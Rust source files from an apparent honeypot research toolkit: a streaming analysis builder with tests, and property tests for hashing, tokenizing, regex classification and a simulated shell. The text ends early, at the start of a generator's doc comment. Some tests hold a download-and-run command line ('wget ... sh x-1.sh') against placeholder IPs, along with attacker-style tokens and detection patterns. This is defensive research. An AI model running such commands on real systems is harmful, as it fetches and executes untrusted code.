#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ReportKind {
    /// §3.3 dataset statistics ([`TaxonomyStats`]).
    Taxonomy,
    /// Table 1 category histogram plus the §5 coverage fraction.
    Categories,
    /// Fig. 10 top accepted passwords.
    Passwords,
    /// Fig. 11 Cowrie-default fingerprinting probes.
    Probes,
    /// §7 download events and storage statistics.
    Downloads,
    /// §9 mdrfckr actor timeline.
    Mdrfckr,
}

impl ReportKind {
    /// Every report, in presentation order.
    pub const ALL: [ReportKind; 6] = [
        ReportKind::Taxonomy,
        ReportKind::Categories,
        ReportKind::Passwords,
        ReportKind::Probes,
        ReportKind::Downloads,
        ReportKind::Mdrfckr,
    ];

    /// The CLI name of this report.
    pub fn name(self) -> &'static str {
        match self {
            ReportKind::Taxonomy => "taxonomy",
            ReportKind::Categories => "categories",
            ReportKind::Passwords => "passwords",
            ReportKind::Probes => "probes",
            ReportKind::Downloads => "downloads",
            ReportKind::Mdrfckr => "mdrfckr",
        }
    }

    /// Parses a CLI name (the inverse of [`ReportKind::name`]).
    pub fn parse(s: &str) -> Option<Self> {
        ReportKind::ALL.into_iter().find(|k| k.name() == s)
    }
}

/// Where the sessions come from. Every variant feeds the same streaming
/// pass; none requires the dataset in memory (the store variant decodes
/// one segment at a time).
#[derive(Debug, Clone, Copy)]
pub enum SessionSource<'a> {
    /// An in-memory slice (generator output, tests).
    Memory(&'a [SessionRecord]),
    /// An open sessiondb store, scanned out-of-core.
    Store(&'a sessiondb::Store),
    /// A Cowrie JSON-lines log, imported lossily (torn lines are
    /// reported, not fatal).
    CowrieLog(&'a str),
}

/// Analysis failure: the source could not be read.
#[derive(Debug)]
pub enum AnalysisError {
    /// A sessiondb scan failed (CRC mismatch, truncation, I/O).
    Store(sessiondb::SessionDbError),
    /// A Cowrie log yielded no recoverable session at all.
    NoRecoverableSessions {
        /// Non-empty lines in the log.
        lines_total: usize,
    },
}

impl std::fmt::Display for AnalysisError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AnalysisError::Store(e) => write!(f, "session store scan failed: {e}"),
            AnalysisError::NoRecoverableSessions { lines_total } => {
                write!(f, "no sessions recoverable from {lines_total} log lines")
            }
        }
    }
}

impl std::error::Error for AnalysisError {}

impl From<sessiondb::SessionDbError> for AnalysisError {
    fn from(e: sessiondb::SessionDbError) -> Self {
        AnalysisError::Store(e)
    }
}

/// Cowrie-import diagnostics carried alongside the reports.
#[derive(Debug, Clone, Default)]
pub struct ImportDiagnostics {
    /// Non-empty lines seen.
    pub lines_total: usize,
    /// Sessions recovered.
    pub recovered: usize,
    /// Per-line failures (line number, message, snippet).
    pub errors: Vec<honeypot::cowrie_log::LineError>,
}

/// Everything one [`AnalysisBuilder::run`] produced. Unselected reports
/// are `None`.
#[derive(Debug, Clone, Default)]
pub struct AnalysisReport {
    /// Sessions streamed through the pass.
    pub sessions: u64,
    /// §3.3 statistics.
    pub taxonomy: Option<TaxonomyStats>,
    /// Table 1 histogram, descending.
    pub categories: Option<Vec<(&'static str, u64)>>,
    /// §5 coverage fraction (with [`ReportKind::Categories`]).
    pub coverage: Option<f64>,
    /// Fig. 10 data.
    pub passwords: Option<TopPasswords>,
    /// Fig. 11 data.
    pub probes: Option<CowrieDefaultProbes>,
    /// §7 download events.
    pub downloads: Option<Vec<DownloadEvent>>,
    /// §7 headline statistics over those events.
    pub storage: Option<StorageStats>,
    /// §9 timeline.
    pub mdrfckr: Option<Timeline>,
    /// Cowrie-import diagnostics ([`SessionSource::CowrieLog`] only).
    pub import: Option<ImportDiagnostics>,
    /// Step-budget exhaustions recorded by the Table 1 classifier during
    /// this run (only meaningful with [`ReportKind::Categories`]; `0`
    /// otherwise). Non-zero means some command texts hit the
    /// backtracking bound mid-rule and the affected sessions may have
    /// fallen through to a later rule or to `unknown`.
    pub budget_exhaustions: u64,
}

/// The full set of per-report accumulators one pass (or one partition of
/// a parallel pass) folds into. Unselected reports stay `None` and cost
/// nothing per record.
struct Accumulators<'c> {
    sessions: u64,
    taxonomy: Option<TaxonomyAccumulator>,
    classification: Option<ClassificationAccumulator<'c>>,
    passwords: Option<TopPasswordsAccumulator>,
    probes: Option<ProbeAccumulator>,
    downloads: Option<DownloadAccumulator>,
    mdrfckr: Option<TimelineAccumulator>,
}

impl<'c> Accumulators<'c> {
    fn new(selected: &[ReportKind], cl: Option<&'c Classifier>, top_n: usize) -> Self {
        let want = |k: ReportKind| selected.contains(&k);
        Self {
            sessions: 0,
            taxonomy: want(ReportKind::Taxonomy).then(TaxonomyAccumulator::new),
            classification: cl.map(ClassificationAccumulator::new),
            passwords: want(ReportKind::Passwords).then(|| TopPasswordsAccumulator::new(top_n)),
            probes: want(ReportKind::Probes).then(ProbeAccumulator::new),
            downloads: want(ReportKind::Downloads).then(DownloadAccumulator::new),
            mdrfckr: want(ReportKind::Mdrfckr).then(TimelineAccumulator::new),
        }
    }

    fn push(&mut self, rec: &SessionRecord) {
        self.sessions += 1;
        if let Some(a) = &mut self.taxonomy {
            a.push(rec);
        }
        if let Some(a) = &mut self.classification {
            a.push(rec);
        }
        if let Some(a) = &mut self.passwords {
            a.push(rec);
        }
        if let Some(a) = &mut self.probes {
            a.push(rec);
        }
        if let Some(a) = &mut self.downloads {
            a.push(rec);
        }
        if let Some(a) = &mut self.mdrfckr {
            a.push(rec);
        }
    }

    /// Absorbs a later partition's partials. Callers must merge in
    /// ascending partition order: download events are concatenated, so
    /// order is what makes the parallel event list identical to the
    /// serial one.
    fn merge(&mut self, other: Self) {
        self.sessions += other.sessions;
        if let (Some(a), Some(b)) = (&mut self.taxonomy, other.taxonomy) {
            a.merge(b);
        }
        if let (Some(a), Some(b)) = (&mut self.classification, other.classification) {
            a.merge(b);
        }
        if let (Some(a), Some(b)) = (&mut self.passwords, other.passwords) {
            a.merge(b);
        }
        if let (Some(a), Some(b)) = (&mut self.probes, other.probes) {
            a.merge(b);
        }
        if let (Some(a), Some(b)) = (&mut self.downloads, other.downloads) {
            a.merge(b);
        }
        if let (Some(a), Some(b)) = (&mut self.mdrfckr, other.mdrfckr) {
            a.merge(b);
        }
    }

    fn finish_into(self, out: &mut AnalysisReport) {
        out.sessions = self.sessions;
        out.taxonomy = self.taxonomy.map(TaxonomyAccumulator::finish);
        if let Some(a) = self.classification {
            out.coverage = Some(a.coverage());
            out.categories = Some(a.finish());
        }
        out.passwords = self.passwords.map(TopPasswordsAccumulator::finish);
        out.probes = self.probes.map(ProbeAccumulator::finish);
        if let Some(a) = self.downloads {
            let events = a.finish();
            out.storage = Some(crate::storage_analysis::storage_stats(
                &events,
                &abusedb::AbuseDb::default(),
            ));
            out.downloads = Some(events);
        }
        out.mdrfckr = self.mdrfckr.map(TimelineAccumulator::finish);
    }
}

/// Folds a slice into accumulators, splitting it across `threads`
/// contiguous chunks when parallelism is requested. Chunk partials merge
/// in slice order, so the result is identical to the serial fold.
fn fold_slice<'c>(
    slice: &[SessionRecord],
    threads: usize,
    make: &(impl Fn() -> Accumulators<'c> + Sync),
) -> Accumulators<'c> {
    if threads <= 1 || slice.len() < 2 {
        let mut acc = make();
        for rec in slice {
            acc.push(rec);
        }
        return acc;
    }
    let chunk = slice.len().div_ceil(threads);
    let parts: Vec<Accumulators<'c>> = std::thread::scope(|scope| {
        let handles: Vec<_> = slice
            .chunks(chunk)
            .map(|c| {
                scope.spawn(move || {
                    let mut acc = make();
                    for rec in c {
                        acc.push(rec);
                    }
                    acc
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap_or_else(|p| std::panic::resume_unwind(p)))
            .collect()
    });
    let mut acc = make();
    for part in parts {
        acc.merge(part);
    }
    acc
}

/// Builder for one combined analysis pass. See the module docs.
#[derive(Debug)]
pub struct AnalysisBuilder<'a> {
    source: SessionSource<'a>,
    reports: Vec<ReportKind>,
    top_n: usize,
    threads: usize,
}

impl<'a> AnalysisBuilder<'a> {
    /// A builder over `source` with no report selected yet (running with
    /// an empty selection computes all of them).
    pub fn new(source: SessionSource<'a>) -> Self {
        Self {
            source,
            reports: Vec::new(),
            top_n: 10,
            threads: 1,
        }
    }

    /// Selects one report (duplicates are ignored).
    pub fn report(mut self, kind: ReportKind) -> Self {
        if !self.reports.contains(&kind) {
            self.reports.push(kind);
        }
        self
    }

    /// Selects several reports at once.
    pub fn reports(mut self, kinds: impl IntoIterator<Item = ReportKind>) -> Self {
        for k in kinds {
            self = self.report(k);
        }
        self
    }

    /// How many top passwords to keep (default 10).
    pub fn top_n(mut self, n: usize) -> Self {
        self.top_n = n;
        self
    }

    /// Worker threads for the streaming pass (default 1 = serial; `0` is
    /// treated as 1). With more than one thread the source is
    /// partitioned — store segments, or contiguous slice chunks — and
    /// per-partition partials are merged in partition order, so the
    /// result is byte-identical to the serial pass.
    pub fn threads(mut self, n: usize) -> Self {
        self.threads = n.max(1);
        self
    }

    /// Runs every selected report in a single streaming pass over the
    /// source.
    pub fn run(self) -> Result<AnalysisReport, AnalysisError> {
        let selected: &[ReportKind] = if self.reports.is_empty() {
            &ReportKind::ALL
        } else {
            &self.reports
        };

        // The classifier is only built when the categories report needs
        // it (it compiles the full Table 1 rule set).
        let cl = selected
            .contains(&ReportKind::Categories)
            .then(Classifier::table1);
        let make = || Accumulators::new(selected, cl.as_ref(), self.top_n);

        let mut out = AnalysisReport::default();
        let acc = match self.source {
            SessionSource::Memory(slice) => fold_slice(slice, self.threads, &make),
            SessionSource::Store(store) => {
                if self.threads <= 1 {
                    let mut acc = make();
                    for rec in store.scan().records() {
                        acc.push(&rec?);
                    }
                    acc
                } else {
                    // One partial per segment, returned in segment order
                    // regardless of which worker decoded it.
                    let parts = store.par_scan_map(self.threads, |_, batch| {
                        let mut acc = make();
                        for rec in &batch {
                            acc.push(rec);
                        }
                        acc
                    })?;
                    let mut acc = make();
                    for part in parts {
                        acc.merge(part);
                    }
                    acc
                }
            }
            SessionSource::CowrieLog(log) => {
                let import = from_cowrie_log_lossy(log);
                if import.sessions.is_empty() && !import.errors.is_empty() {
                    return Err(AnalysisError::NoRecoverableSessions {
                        lines_total: import.lines_total,
                    });
                }
                let acc = fold_slice(&import.sessions, self.threads, &make);
                out.import = Some(ImportDiagnostics {
                    lines_total: import.lines_total,
                    recovered: import.sessions.len(),
                    errors: import.errors,
                });
                acc
            }
        };

        acc.finish_into(&mut out);
        out.budget_exhaustions = cl.as_ref().map_or(0, |c| c.budget_exhaustions());
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logins;
    use crate::report;
    use botnet::{generate_dataset, Dataset, DriverConfig};

    fn ds() -> &'static Dataset {
        static DS: std::sync::OnceLock<Dataset> = std::sync::OnceLock::new();
        DS.get_or_init(|| generate_dataset(&DriverConfig::test_scale(23)))
    }

    #[test]
    fn builder_matches_the_per_report_functions() {
        let d = ds();
        let all = AnalysisBuilder::new(SessionSource::Memory(&d.sessions))
            .run()
            .expect("memory source is infallible");
        assert_eq!(all.sessions, d.sessions.len() as u64);

        assert_eq!(
            all.taxonomy.as_ref().unwrap(),
            &TaxonomyStats::compute(&d.sessions)
        );
        let cl = Classifier::table1();
        assert_eq!(
            all.categories.as_ref().unwrap(),
            &report::category_counts(&d.sessions, &cl)
        );
        assert_eq!(
            all.coverage.unwrap(),
            report::classification_coverage(&d.sessions, &cl)
        );
        let top = logins::top_passwords(&d.sessions, 10);
        assert_eq!(all.passwords.as_ref().unwrap().passwords, top.passwords);
        assert_eq!(all.passwords.as_ref().unwrap().by_month, top.by_month);
        let probes = logins::cowrie_default_probes(&d.sessions);
        assert_eq!(
            all.probes.as_ref().unwrap().phil_unique_ips,
            probes.phil_unique_ips
        );
        let events = crate::storage_analysis::download_events(&d.sessions);
        assert_eq!(all.downloads.as_ref().unwrap().len(), events.len());
        let tl = crate::mdrfckr::timeline(&d.sessions);
        assert_eq!(all.mdrfckr.as_ref().unwrap().daily, tl.daily);
    }

    #[test]
    fn selection_limits_what_runs() {
        let d = ds();
        let r = AnalysisBuilder::new(SessionSource::Memory(&d.sessions))
            .report(ReportKind::Taxonomy)
            .run()
            .unwrap();
        assert!(r.taxonomy.is_some());
        assert!(r.categories.is_none());
        assert!(r.coverage.is_none());
        assert!(r.passwords.is_none());
        assert!(r.probes.is_none());
        assert!(r.downloads.is_none());
        assert!(r.storage.is_none());
        assert!(r.mdrfckr.is_none());
        assert!(r.import.is_none());
    }

    #[test]
    fn store_source_streams_the_same_results() {
        let d = ds();
        let dir = std::env::temp_dir().join(format!("analysis-store-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let mut w = sessiondb::StoreWriter::with_rows_per_segment(&dir, 64).unwrap();
        for rec in &d.sessions {
            honeypot::SessionSink::append(&mut w, rec).unwrap();
        }
        honeypot::SessionSink::finish(&mut w).unwrap();
        let store = sessiondb::Store::open(&dir).unwrap();

        let from_store = AnalysisBuilder::new(SessionSource::Store(&store))
            .run()
            .unwrap();
        let from_mem = AnalysisBuilder::new(SessionSource::Memory(&d.sessions))
            .run()
            .unwrap();
        assert_eq!(from_store.sessions, from_mem.sessions);
        assert_eq!(from_store.taxonomy, from_mem.taxonomy);
        assert_eq!(from_store.categories, from_mem.categories);
        assert_eq!(
            from_store.passwords.as_ref().unwrap().passwords,
            from_mem.passwords.as_ref().unwrap().passwords
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn cowrie_source_reports_import_diagnostics() {
        let d = ds();
        let slice = &d.sessions[..200.min(d.sessions.len())];
        let mut log = honeypot::to_cowrie_log(slice);
        log.push_str("this is not json\n");
        let r = AnalysisBuilder::new(SessionSource::CowrieLog(&log))
            .report(ReportKind::Taxonomy)
            .run()
            .unwrap();
        let diag = r.import.expect("cowrie source carries diagnostics");
        assert_eq!(diag.recovered as u64, r.sessions);
        assert_eq!(diag.errors.len(), 1);
        assert_eq!(r.taxonomy.unwrap().total_sessions, r.sessions);
    }

    #[test]
    fn hopeless_cowrie_log_is_an_error() {
        let r = AnalysisBuilder::new(SessionSource::CowrieLog("garbage\nmore garbage\n")).run();
        match r {
            Err(AnalysisError::NoRecoverableSessions { lines_total }) => {
                assert_eq!(lines_total, 2)
            }
            other => panic!("expected NoRecoverableSessions, got {other:?}"),
        }
    }

    fn reports_equal(a: &AnalysisReport, b: &AnalysisReport) {
        assert_eq!(a.sessions, b.sessions);
        assert_eq!(a.taxonomy, b.taxonomy);
        assert_eq!(a.categories, b.categories);
        assert_eq!(a.coverage, b.coverage);
        assert_eq!(
            a.passwords.as_ref().map(|p| &p.passwords),
            b.passwords.as_ref().map(|p| &p.passwords)
        );
        assert_eq!(
            a.passwords.as_ref().map(|p| &p.by_month),
            b.passwords.as_ref().map(|p| &p.by_month)
        );
        assert_eq!(
            a.probes.as_ref().map(|p| p.phil_unique_ips),
            b.probes.as_ref().map(|p| p.phil_unique_ips)
        );
        assert_eq!(
            a.probes.as_ref().map(|p| &p.phil_success),
            b.probes.as_ref().map(|p| &p.phil_success)
        );
        assert_eq!(
            a.probes.as_ref().map(|p| &p.richard_tries),
            b.probes.as_ref().map(|p| &p.richard_tries)
        );
        assert_eq!(a.downloads, b.downloads);
        assert_eq!(a.storage, b.storage);
        assert_eq!(
            a.mdrfckr.as_ref().map(|t| &t.daily),
            b.mdrfckr.as_ref().map(|t| &t.daily)
        );
    }

    #[test]
    fn parallel_memory_run_is_identical_to_serial() {
        let d = ds();
        let serial = AnalysisBuilder::new(SessionSource::Memory(&d.sessions))
            .run()
            .unwrap();
        for threads in [2, 3, 8] {
            let par = AnalysisBuilder::new(SessionSource::Memory(&d.sessions))
                .threads(threads)
                .run()
                .unwrap();
            reports_equal(&par, &serial);
        }
    }

    #[test]
    fn parallel_store_run_is_identical_to_serial() {
        let d = ds();
        let dir = std::env::temp_dir().join(format!("analysis-parstore-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        // Small segments so the parallel path sees many partitions.
        let mut w = sessiondb::StoreWriter::with_rows_per_segment(&dir, 16).unwrap();
        for rec in &d.sessions {
            honeypot::SessionSink::append(&mut w, rec).unwrap();
        }
        honeypot::SessionSink::finish(&mut w).unwrap();
        let store = sessiondb::Store::open(&dir).unwrap();

        let serial = AnalysisBuilder::new(SessionSource::Store(&store))
            .run()
            .unwrap();
        for threads in [2, 4] {
            let par = AnalysisBuilder::new(SessionSource::Store(&store))
                .threads(threads)
                .run()
                .unwrap();
            reports_equal(&par, &serial);
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn parallel_store_run_surfaces_corruption() {
        let d = ds();
        let dir = std::env::temp_dir().join(format!("analysis-parcorrupt-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let mut w = sessiondb::StoreWriter::with_rows_per_segment(&dir, 16).unwrap();
        for rec in &d.sessions {
            honeypot::SessionSink::append(&mut w, rec).unwrap();
        }
        honeypot::SessionSink::finish(&mut w).unwrap();

        // Flip one byte in the middle of a mid-store segment.
        let seg = dir.join("seg-000002.hsdb");
        let mut bytes = std::fs::read(&seg).unwrap();
        let mid = bytes.len() / 2;
        bytes[mid] ^= 0xff;
        std::fs::write(&seg, &bytes).unwrap();

        let store = sessiondb::Store::open(&dir).unwrap();
        let r = AnalysisBuilder::new(SessionSource::Store(&store))
            .threads(4)
            .run();
        assert!(
            matches!(r, Err(AnalysisError::Store(_))),
            "corrupted segment must fail the parallel run, got {r:?}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn budget_exhaustions_surface_in_the_report() {
        let d = ds();
        let with_cats = AnalysisBuilder::new(SessionSource::Memory(&d.sessions))
            .report(ReportKind::Categories)
            .run()
            .unwrap();
        // The generated corpus is benign; the diagnostic exists and is 0.
        assert_eq!(with_cats.budget_exhaustions, 0);
        let without = AnalysisBuilder::new(SessionSource::Memory(&d.sessions))
            .report(ReportKind::Taxonomy)
            .run()
            .unwrap();
        assert_eq!(without.budget_exhaustions, 0);
    }

    #[test]
    fn report_kind_names_round_trip() {
        for k in ReportKind::ALL {
            assert_eq!(ReportKind::parse(k.name()), Some(k));
        }
        assert_eq!(ReportKind::parse("nonsense"), None);
    }
}
