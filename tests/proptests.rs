//! Property-based tests over the substrate crates' core invariants.

use honeylab::core::{dld, tokens};
use honeylab::hutil::{base64, Date, Sha256};
use honeylab::netsim::{Ipv4Addr, Prefix};
use honeylab::sregex::Regex;
use proptest::prelude::*;

// ---------------------------------------------------------------- sha256

proptest! {
    #[test]
    fn sha256_streaming_equals_oneshot(data in proptest::collection::vec(any::<u8>(), 0..2048),
                                       split in 0usize..2048) {
        let split = split.min(data.len());
        let mut h = Sha256::new();
        h.update(&data[..split]);
        h.update(&data[split..]);
        prop_assert_eq!(h.finalize(), Sha256::digest(&data));
    }

    #[test]
    fn sha256_is_injective_on_small_perturbations(data in proptest::collection::vec(any::<u8>(), 1..512),
                                                  flip in 0usize..512) {
        let flip = flip.min(data.len() - 1);
        let mut tampered = data.clone();
        tampered[flip] ^= 0x01;
        prop_assert_ne!(Sha256::digest(&data), Sha256::digest(&tampered));
    }
}

// ---------------------------------------------------------------- base64

proptest! {
    #[test]
    fn base64_roundtrip(data in proptest::collection::vec(any::<u8>(), 0..1024)) {
        let enc = base64::encode(&data);
        prop_assert!(enc.len().is_multiple_of(4));
        prop_assert_eq!(base64::decode(&enc).unwrap(), data);
    }

    #[test]
    fn base64_whitespace_insensitive(data in proptest::collection::vec(any::<u8>(), 1..256),
                                     every in 1usize..40) {
        let enc = base64::encode(&data);
        let spaced: String = enc
            .chars()
            .enumerate()
            .flat_map(|(i, c)| {
                if i % every == 0 { vec!['\n', c] } else { vec![c] }
            })
            .collect();
        prop_assert_eq!(base64::decode(&spaced).unwrap(), data);
    }
}

// ---------------------------------------------------------------- dates

proptest! {
    #[test]
    fn date_epoch_roundtrip(days in -200_000i64..200_000) {
        let d = Date::from_epoch_days(days);
        prop_assert_eq!(d.to_epoch_days(), days);
        prop_assert!((1..=12).contains(&d.month));
        prop_assert!(d.day >= 1 && d.day <= Date::days_in_month(d.year, d.month));
    }

    #[test]
    fn date_plus_days_is_additive(days in 0i64..100_000, a in -500i64..500, b in -500i64..500) {
        let d = Date::from_epoch_days(days);
        prop_assert_eq!(d.plus_days(a).plus_days(b), d.plus_days(a + b));
    }

    #[test]
    fn weekday_cycles_every_seven_days(days in 0i64..100_000) {
        let d = Date::from_epoch_days(days);
        prop_assert_eq!(d.weekday(), d.plus_days(7).weekday());
        prop_assert_ne!(d.weekday(), d.plus_days(1).weekday());
    }
}

// ---------------------------------------------------------------- ipv4

proptest! {
    #[test]
    fn ipv4_display_parse_roundtrip(n in any::<u32>()) {
        let ip = Ipv4Addr(n);
        prop_assert_eq!(Ipv4Addr::parse(&ip.to_string()), Some(ip));
    }

    #[test]
    fn prefix_contains_its_addresses(base in any::<u32>(), len in 8u8..=32, i in any::<u64>()) {
        let p = Prefix::new(Ipv4Addr(base), len);
        let addr = p.nth(i % p.num_addrs());
        prop_assert!(p.contains(addr));
        // Deaggregated /24s tile exactly the same address count for /<=24.
        if len <= 24 {
            prop_assert_eq!(p.deaggregated_24s() * 256, p.num_addrs());
        }
    }
}

// ------------------------------------------------------------ token DLD

fn token_seq() -> impl Strategy<Value = Vec<String>> {
    proptest::collection::vec(
        proptest::sample::select(vec![
            "cd", "/tmp", "wget", "<URL>", "chmod", "777", "sh", "<NAME>", "rm", "-rf", "uname",
            "-a", "echo", "ok", "busybox", "tftp",
        ])
        .prop_map(str::to_string),
        0..24,
    )
}

proptest! {
    #[test]
    fn dld_is_a_metric(a in token_seq(), b in token_seq(), c in token_seq()) {
        // identity
        prop_assert_eq!(dld::dld(&a, &a), 0);
        // symmetry
        prop_assert_eq!(dld::dld(&a, &b), dld::dld(&b, &a));
        // triangle inequality (OSA satisfies it)
        prop_assert!(dld::dld(&a, &c) <= dld::dld(&a, &b) + dld::dld(&b, &c));
        // length bound
        prop_assert!(dld::dld(&a, &b) <= a.len().max(b.len()));
    }

    #[test]
    fn normalized_dld_is_bounded(a in token_seq(), b in token_seq()) {
        let d = dld::normalized_dld(&a, &b);
        prop_assert!((0.0..=1.0).contains(&d));
        if a == b {
            prop_assert_eq!(d, 0.0);
        }
    }

    #[test]
    fn single_edit_costs_at_most_one(a in token_seq(), ins in 0usize..24) {
        if !a.is_empty() {
            let mut b = a.clone();
            b.insert(ins.min(a.len()), "x".to_string());
            prop_assert_eq!(dld::dld(&a, &b), 1);
        }
    }
}

// ---------------------------------------------------------------- sregex

/// Strings of benign command-ish characters.
fn cmd_string() -> impl Strategy<Value = String> {
    proptest::string::string_regex("[a-z0-9 ./;|-]{0,64}").expect("valid generator regex")
}

proptest! {
    #[test]
    fn literal_patterns_match_themselves(s in "[a-z0-9]{1,24}") {
        let re = Regex::new(&s).unwrap();
        prop_assert!(re.is_match(&s));
        let embedded = format!("prefix {s} suffix");
        prop_assert!(re.is_match(&embedded));
        prop_assert_eq!(re.find(&s), Some((0, s.len())));
    }

    #[test]
    fn find_span_is_valid_and_rematches(hay in cmd_string()) {
        // A fixed selection of Table 1-style patterns.
        for pat in [r"\d+", r"[a-z]{3}", r"wget|curl", r"(?=.*sh)(?=.*/tmp)", r"\bok\b"] {
            let re = Regex::new(pat).unwrap();
            if let Some((s, e)) = re.find(&hay) {
                prop_assert!(s <= e && e <= hay.len());
                // The matched substring must itself match (anchored check
                // via a fresh search on the slice).
                if s < e {
                    prop_assert!(re.is_match(&hay[s..]), "suffix must still match");
                }
            }
        }
    }

    #[test]
    fn dotstar_wrap_matches_iff_contains(hay in cmd_string(), needle in "[a-z]{2,6}") {
        let re = Regex::new(&format!("(?=.*{needle})")).unwrap();
        // Haystack has no newlines, so the conjunction shortcut and plain
        // containment agree exactly.
        prop_assert_eq!(re.is_match(&hay), hay.contains(&needle));
    }

    #[test]
    fn classifier_never_panics_on_arbitrary_input(hay in proptest::string::string_regex(".{0,200}").expect("valid")) {
        let cl = honeylab::core::classify::Classifier::table1();
        let _ = cl.classify(&hay);
    }
}

// ------------------------------------------------------------- tokenize

proptest! {
    #[test]
    fn tokenize_never_produces_empty_tokens(s in ".{0,200}") {
        for t in tokens::tokenize(&s) {
            prop_assert!(!t.is_empty());
        }
    }

    #[test]
    fn signature_is_idempotent_under_ip_churn(a in 1u8..250, b in 1u8..250) {
        let s1 = format!("cd /tmp; wget http://{a}.0.0.1/x-1.sh; sh x-1.sh");
        let s2 = format!("cd /tmp; wget http://{b}.9.9.9/y-2.sh; sh y-2.sh");
        prop_assert_eq!(tokens::signature(&s1), tokens::signature(&s2));
    }
}

// ------------------------------------------------------ packet framing

proptest! {
    #[test]
    fn ssh_packet_roundtrip(payload in proptest::collection::vec(any::<u8>(), 0..2048),
                            with_mac in any::<bool>(),
                            key in any::<[u8; 32]>()) {
        use honeylab::sshwire::packet::PacketCodec;
        let mut tx = PacketCodec::new();
        let mut rx = PacketCodec::new();
        if with_mac {
            tx.enable_integrity(key);
            rx.enable_integrity(key);
        }
        let wire = tx.seal(&payload);
        let mut buf = honeylab::sshwire::bytes_mut_from(&wire);
        let got = rx.open(&mut buf).unwrap().expect("complete packet");
        prop_assert_eq!(&got[..], &payload[..]);
        prop_assert!(buf.is_empty());
    }
}

// ------------------------------------------------------------------ vfs

proptest! {
    #[test]
    fn vfs_resolve_is_idempotent(path in "[a-z0-9./~]{1,48}") {
        let v = honeylab::honeypot::Vfs::new();
        let once = v.resolve(&path);
        prop_assert_eq!(v.resolve(&once), once.clone());
        prop_assert!(once.starts_with('/'));
        prop_assert!(!once.contains("//"));
        prop_assert!(!once.split('/').any(|seg| seg == ".." || seg == "."));
    }

    #[test]
    fn vfs_write_read_roundtrip(name in "[a-z]{1,12}", content in proptest::collection::vec(any::<u8>(), 0..256)) {
        let mut v = honeylab::honeypot::Vfs::new();
        let path = format!("/tmp/{name}");
        let (p, hash, _) = v.write(&path, &content);
        prop_assert_eq!(&p, &path);
        prop_assert_eq!(v.read(&path).unwrap(), &content[..]);
        prop_assert_eq!(hash, Sha256::hex_digest(&content));
    }
}

// ---------------------------------------------------------------- shell

proptest! {
    #[test]
    fn shell_never_panics_on_arbitrary_lines(line in ".{0,160}") {
        let store = honeylab::honeypot::shell::NullStore;
        let mut sh = honeylab::honeypot::Shell::new(&store);
        let _ = sh.exec_line(&line);
    }

    #[test]
    fn shell_file_events_are_absolute_paths(cmds in proptest::collection::vec("[a-z0-9 ./;>-]{1,40}", 1..6)) {
        let store = honeylab::honeypot::shell::NullStore;
        let mut sh = honeylab::honeypot::Shell::new(&store);
        for c in &cmds {
            sh.exec_line(c);
        }
        for e in sh.file_events() {
            prop_assert!(e.path.starts_with('/'), "relative path leaked: {}", e.path);
        }
    }

    #[test]
    fn session_sim_total_function(line in "[ -~]{0,120}", pw in "[a-z0-9]{1,12}") {
        use honeylab::honeypot::{AuthPolicy, SessionInput, SessionSim};
        let store = honeylab::honeypot::shell::NullStore;
        let sim = SessionSim::new(
            AuthPolicy::default(),
            &store,
            honeylab::netsim::latency::LatencyModel::new(1),
        );
        let rec = sim.run(SessionInput {
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 1000,
            protocol: honeylab::honeypot::Protocol::Ssh,
            start: Date::new(2022, 1, 1).at_midnight(),
            client_version: None,
            logins: vec![("root".to_string(), pw.clone())],
            commands: vec![line],
            idle_out: false,
        });
        prop_assert!(rec.end > rec.start);
        prop_assert_eq!(rec.login_succeeded(), pw != "root");
    }
}

// ------------------------------------------------------------- cowrie log

proptest! {
    #[test]
    fn cowrie_log_roundtrips_commands(input in "[ -~]{1,80}") {
        use honeylab::honeypot::{from_cowrie_log, to_cowrie_log, CommandRecord, LoginAttempt,
                                 Protocol, SessionEndReason, SessionRecord};
        let rec = SessionRecord {
            session_id: 1,
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 3,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 1, 1).at(1, 2, 3),
            end: Date::new(2022, 1, 1).at(1, 2, 33),
            end_reason: SessionEndReason::ClientClose,
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![LoginAttempt { username: "root".into(), password: "x".into(), success: true }],
            commands: vec![CommandRecord { input: input.clone(), known: true }],
            uris: vec![],
            file_events: vec![],
        };
        let log = to_cowrie_log(std::slice::from_ref(&rec));
        let back = from_cowrie_log(&log).unwrap();
        prop_assert_eq!(&back[0].commands[0].input, &input);
    }

    #[test]
    fn json_roundtrips_arbitrary_strings(s in ".{0,60}") {
        let v = hutil::Json::str(s.clone());
        prop_assert_eq!(hutil::Json::parse(&v.render()).unwrap(), v);
    }
}

// --------------------------------------------------------------- stats

proptest! {
    #[test]
    fn boxplot_orders_quartiles(values in proptest::collection::vec(0.0f64..1e6, 1..200)) {
        let s = honeylab::hutil::stats::BoxplotSummary::from_values(&values).unwrap();
        prop_assert!(s.min <= s.q1 && s.q1 <= s.median);
        prop_assert!(s.median <= s.q3 && s.q3 <= s.max);
        prop_assert!(s.mean >= s.min && s.mean <= s.max);
        prop_assert_eq!(s.n, values.len());
    }

    #[test]
    fn ratios_always_sum_to_one_or_zero(counts in proptest::collection::vec(0u64..10_000, 1..20)) {
        let r = honeylab::hutil::stats::ratios(&counts);
        let sum: f64 = r.iter().sum();
        if counts.iter().sum::<u64>() == 0 {
            prop_assert_eq!(sum, 0.0);
        } else {
            prop_assert!((sum - 1.0).abs() < 1e-9);
        }
    }
}
