//! The 33-month dataset generator.
//!
//! Walks the study window day by day, schedules sessions for every active
//! campaign (scaled down from paper rates), runs each through the honeypot
//! session engine, and returns the frozen dataset together with the
